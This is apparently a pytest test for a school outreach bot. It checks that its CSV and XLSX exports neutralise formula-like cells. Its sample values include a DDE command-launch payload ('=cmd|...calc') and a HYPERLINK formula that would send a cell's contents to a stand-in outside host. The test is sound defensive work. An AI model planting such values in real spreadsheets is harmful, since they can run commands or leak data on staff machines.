"""Files for a spreadsheet: whatever begins like a formula is none, in any of them."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot import clock
from bot.console.reports import REPORTS
from bot.csv_table import FORMULA
from bot.store import families
from bot.store.broadcasts import Broadcast
from bot.store.needs import Need
from bot.store.recipients import Recipient
from bot.store.rosters import Guardian
from tests.faults.conftest import Case
from tests.faults.desk import Hired, hire, writing
from tests.faults.network import new_phone
from tests.faults.school import School

CELLS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example?a="&A1,"x")', "=1+1,=2+2", '"=1+1', "=1\n=2",
)  # fmt: skip
"""What a spreadsheet would reckon, call or ask for, if it took these for formulas."""
TYPED = ("=SUM(A:A)", "-A", "@SUM(A:A)", "+A+B")
"""No digit: staff may not type an address as an area, and a number makes it one."""
MAIL = "@elsewhere.example"


@pytest.mark.case(
    25, "cells that begin with = + - @ TAB CR, in every CSV and XLSX of the desk and the commands",
    "prefixed and quoted: no cell is a formula, nothing is lost",
)  # fmt: skip
def test_no_cell_of_a_file_is_a_formula(case: Case, tmp_path: Path) -> None:
    school = School(case.line, "oak-hill", "spreadsheet")
    boss = hire(case.line, "district_admin")
    _fill(case, school)
    _describe(boss, school)
    day = f"{school.key}@{school.ids['day']:%Y-%m-%d}"
    rides = f"/console/events/{school.key}/sheet/{day}/rides"
    broadcast = f"/console/broadcasts/{school.key}"
    names = _csv(_file(boss, f"{broadcast}/to-do/call?as=csv"))
    assert _bare(names) >= set(map(_plain, CELLS)), "every name is there"
    areas = [_csv(_file(boss, f"{rides}?as=csv")), _xlsx(_file(boss, f"{rides}?as=xlsx"))]
    assert all(_bare(cells) >= set(map(_plain, (*CELLS, TYPED[-1]))) for cells in areas)
    files = [names, *areas, _xlsx(_file(boss, f"{broadcast}/results.xlsx"))]
    files.append(_csv(_file(boss, f"{broadcast}/results.csv")))
    files += [_csv(_file(boss, f"/console/reports.csv?report={one}")) for one in REPORTS]
    files += _by_commands(case, school, day, tmp_path)
    case.note(f"{len(files)} files, {sum(map(len, files))} cells")


def _fill(case: Case, school: School) -> None:
    """Names, areas and addresses as if no screen had ever looked at them."""
    now = clock.now()
    with writing(case.line) as session:
        broadcast = session.get_one(Broadcast, school.ids["broadcast"])
        broadcast.status = "done"
        pattern = session.get_one(Need, school.ids["need"])
        for place, cell in enumerate(CELLS):
            family = families.of_number(session, new_phone(), now)
            known = {"source": school.key, "seen_at": now, "email": f"{cell}{MAIL}"}
            person = Guardian(
                source_key=f"{school.key} {place}", name=cell, family_id=family.id, form="call",
                consent="yes", language="en", **known,
            )  # fmt: skip
            need = Need(
                family_id=family.id, event=pattern.event, need="ride", language="en",
                once_key=f"{school.key} {place}", details={"area": cell}, due_at=pattern.due_at,
                starts_at=now + timedelta(days=14), created_at=now, updated_at=now,
            )  # fmt: skip
            session.add_all([person, need])
            session.flush()
            for form in ("call", "email"):
                whose = {"family_id": family.id} if form == "call" else {"guardian_id": person.id}
                session.add(
                    Recipient(
                        broadcast_id=broadcast.id, language="en", form=form, status="listed",
                        zone="America/Chicago", updated_at=now, **whose,
                    )
                )  # fmt: skip


def _describe(boss: Hired, school: School) -> None:
    """The way by which staff type such a cell themselves."""
    for cell in TYPED:
        typed = boss.post(f"/console/needs/{school.ids['need']}/describe", {"area": cell})
        assert typed.status_code == 303, cell


def _by_commands(case: Case, school: School, day: str, folder: Path) -> Iterable[set[str]]:
    """The same by the commands, which write files or print."""
    made = {
        "results.csv": ("broadcast", "export", school.key, "--to"),
        "results.xlsx": ("broadcast", "export", school.key, "--to"),
        "call.csv": ("broadcast", "to-do", school.key, "call", "--out"),
        "email.csv": ("broadcast", "to-do", school.key, "email", "--out"),
        "follow-up.csv": ("broadcast", "follow-up", school.key, "--out"),
        "rides.csv": ("needs", "sheet", day, "rides", "--out"),
        "rides.xlsx": ("needs", "sheet", day, "rides", "--out"),
    }
    for name, command in made.items():
        path = folder / name
        done = case.line.puente(*command, str(path))
        assert done.returncode == 0, (command, done.stderr)
        cells = (_csv if path.suffix == ".csv" else _xlsx)(path.read_bytes())
        if name.startswith(("call", "rides")):
            assert _bare(cells) >= set(map(_plain, CELLS)), name
        if name.startswith("email"):
            assert _bare(cells) >= {_plain(f"{cell}{MAIL}") for cell in CELLS}, name
        yield cells


def _file(boss: Hired, address: str) -> bytes:
    answer = boss.get(address)
    assert answer.status_code == 200, address
    assert answer.headers["Content-Disposition"].startswith("attachment"), address
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    return answer.content


def _csv(data: bytes) -> set[str]:
    """All cells; none begins like a formula."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    cells = {cell for row in rows for cell in row}
    assert [cell for cell in cells if cell.startswith(FORMULA)] == []
    return cells


def _xlsx(data: bytes) -> set[str]:
    """All cells; none is a formula, a link or an error."""
    found: set[str] = set()
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
                assert cell.hyperlink is None
                found.add(str(cell.value))
    return found


def _plain(cell: str) -> str:
    """A cell as it can be told apart whatever a kind of file makes of its blanks."""
    return "".join(cell.split())


def _bare(cells: set[str]) -> set[str]:
    """Cells without the mark before what begins like a formula."""
    return {_plain(cell.removeprefix("'")) for cell in cells}
